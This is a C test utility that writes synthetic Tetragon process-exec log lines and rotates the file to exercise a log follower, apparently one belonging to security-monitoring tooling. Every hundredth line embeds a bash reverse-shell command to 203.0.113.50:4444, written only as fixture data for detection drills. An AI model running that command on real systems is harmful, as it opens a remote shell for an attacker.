/* Writer of the follow-mode drills: appends N Tetragon export lines (one write(2) each, unique
 * exec ids, every 100th a reverse shell with a unique marker) to PATH and rotates it R times
 * during the write, by rename-and-recreate or by copy-truncate, like Tetragon and logrotate.
 *   followdrill rename|copytruncate PATH LINES ROTATIONS [PAUSE_US_PER_1000_LINES]
 * Like logrotate, rotation k first shifts PATH.k-1 .. PATH.1 to PATH.k .. PATH.2, then renames
 * PATH to PATH.1 (or copies it there and truncates PATH). */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char pod[] =
	"\"pod\":{\"namespace\":\"ws-alice\",\"name\":\"ws-alice-7f3c2a-0\",\"container\":{\"id\":\"containerd://"
	"9b1f4c2e7d3a5b6c8e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d\",\"name\":\"dev\",\"image\":{\"id\":"
	"\"registry.example.com/devenv/python-go@sha256:6edf8ce274a0e660c3e255b7d010e39669223d9d461b75ed0604e2aaab64d7ca\","
	"\"name\":\"registry.example.com/devenv/python-go:2026.10\"},\"start_time\":\"2026-10-14T09:12:36Z\",\"pid\":42},"
	"\"pod_labels\":{\"worktrace.io/owner\":\"alice@example.com\",\"worktrace.io/workspace\":\"alice-api\"},"
	"\"workload\":\"ws-alice-7f3c2a\",\"workload_kind\":\"StatefulSet\"}";

static void die(const char *what, const char *path)
{
	fprintf(stderr, "followdrill: %s %s: %s\n", what, path, strerror(errno));
	exit(1);
}

static int open_append(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	if (fd < 0)
		die("open", path);
	return fd;
}

static void copy_file(const char *from, const char *to)
{
	int in = open(from, O_RDONLY | O_CLOEXEC), out = open(to, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (in < 0 || out < 0)
		die("copy", to);
	char buf[1 << 16];
	ssize_t n;
	while ((n = read(in, buf, sizeof buf)) > 0)
		if (write(out, buf, (size_t)n) != n)
			die("write", to);
	close(in);
	close(out);
}

int main(int argc, char **argv)
{
	if (argc < 5) {
		fputs("usage: followdrill rename|copytruncate PATH LINES ROTATIONS [PAUSE_US_PER_1000_LINES]\n", stderr);
		return 64;
	}
	int rename_mode = !strcmp(argv[1], "rename");
	const char *path = argv[2];
	long lines = atol(argv[3]), rotations = atol(argv[4]);
	long pause = argc > 5 ? atol(argv[5]) : 0;
	int fd = open_append(path);
	char line[4096], dst[4096];
	long done = 0;
	for (long i = 1; i <= lines; i++) {
		long ms = i * 7;
		int n;
		const char *bin = "/usr/bin/git", *args = "status --short";
		char margs[128];
		if (i % 100 == 0) {
			bin = "/bin/bash";
			snprintf(margs, sizeof margs, "-c \\\"bash -i >& /dev/tcp/203.0.113.50/4444 0>&1 # %ld\\\"", i);
			args = margs;
		}
		n = snprintf(line, sizeof line,
			     "{\"process_exec\":{\"process\":{\"exec_id\":\"ZHJpbGw6%ld\",\"pid\":%ld,\"uid\":1000,\"cwd\":"
			     "\"/home/alice/project\",\"binary\":\"%s\",\"arguments\":\"%s\",\"flags\":\"execve clone\","
			     "\"start_time\":\"2026-10-14T10:%02ld:%02ld.%03ldZ\",\"auid\":1000,%s,\"parent_exec_id\":"
			     "\"ZHJpbGw6c2hlbGw=\",\"tid\":%ld,\"in_init_tree\":false},\"parent\":{\"exec_id\":\"ZHJpbGw6c2hlbGw=\","
			     "\"pid\":100,\"uid\":1000,\"binary\":\"/bin/zsh\",\"arguments\":\"-l\",\"start_time\":"
			     "\"2026-10-14T10:00:00Z\"}},\"node_name\":\"drill-node-1\",\"time\":\"2026-10-14T10:%02ld:%02ld.%03ldZ\"}\n",
			     i, 1000 + i % 30000, bin, args, (ms / 60000) % 60, (ms / 1000) % 60, ms % 1000, pod, 1000 + i % 30000,
			     (ms / 60000) % 60, (ms / 1000) % 60, ms % 1000);
		if (write(fd, line, (size_t)n) != n)
			die("write", path);
		if (pause && i % 1000 == 0)
			usleep((useconds_t)pause);
		if (rotations && done < rotations && i == (done + 1) * lines / (rotations + 1)) {
			done++;
			for (long k = done - 1; k >= 1; k--) {
				char from[4096];
				snprintf(from, sizeof from, "%s.%ld", path, k);
				snprintf(dst, sizeof dst, "%s.%ld", path, k + 1);
				if (rename(from, dst) != 0)
					die("rename", from);
			}
			snprintf(dst, sizeof dst, "%s.1", path);
			if (rename_mode) {
				if (rename(path, dst) != 0)
					die("rename", path);
				close(fd);
				fd = open_append(path);
			} else {
				copy_file(path, dst);
				if (ftruncate(fd, 0) != 0)
					die("truncate", path);
			}
		}
	}
	close(fd);
	return 0;
}
